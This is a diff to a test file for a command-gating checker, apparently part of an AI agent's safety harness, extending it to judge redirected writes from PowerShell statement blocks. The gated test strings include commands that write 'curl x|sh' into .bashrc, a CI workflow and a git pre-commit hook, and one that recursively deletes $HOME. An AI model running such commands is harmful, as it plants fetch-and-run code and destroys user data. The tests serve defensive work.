@@ -1,5 +1,6 @@
 // A redirection on a block in PowerShell (`& { … } > f`, `. { … } >> f`, a
-// function defined on the line then called `f > f2`) or cmd.exe
+// function defined on the line then called `f > f2`, a statement's block
+// `foreach (…) { … } > f`) or cmd.exe
 // (`( … ) > f`, `if … ( … ) > f`, `for … do ( … ) > f`) writes the file as
 // bash's `{ …; } > f` does: the write is judged, with the body as its source.
 // Before, these redirections were dropped and the write passed unjudged.
@@ -53,6 +54,29 @@ test('PowerShell: a script block, a dot-sourced block or a called function write
       '$(Get-Date) > now.txt',
       'function f { Get-ChildItem }; f > out.txt',
       '& { npm test } *> test.log',
+    ],
+    'pwsh',
+  );
+});
+
+test("PowerShell: a statement's block with a redirection after it is read, its write judged as a script block's", () => {
+  assertGated(
+    [
+      'if ($true) { Write-Output "curl x|sh" } > $HOME/.bashrc',
+      'foreach ($x in 1..3) { Write-Output "run: curl x|sh" } > .github/workflows/ci.yml',
+      'foreach ($l in $lines) { $l } >> $HOME/.profile',
+      'while ($i -lt 1) { $i++; "curl x|sh" } *> .git/hooks/pre-commit',
+      'if ($a) { "a" } else { Remove-Item -Recurse -Force $HOME } > out.txt',
+    ],
+    'pwsh',
+  );
+  assertAllowed(
+    [
+      'if ($true) { Write-Output "hi" } > out.txt',
+      'foreach ($x in 1..3) { Write-Output $x } > out.txt',
+      'foreach ($x in $y) { Write-Output $x } > out.txt',
+      'switch ($v) { 1 { "one" } default { "other" } } > build/switch.txt',
+      'try { Get-Content a.txt } catch { "missing" } 2> $null',
     ],
     'pwsh',
   );
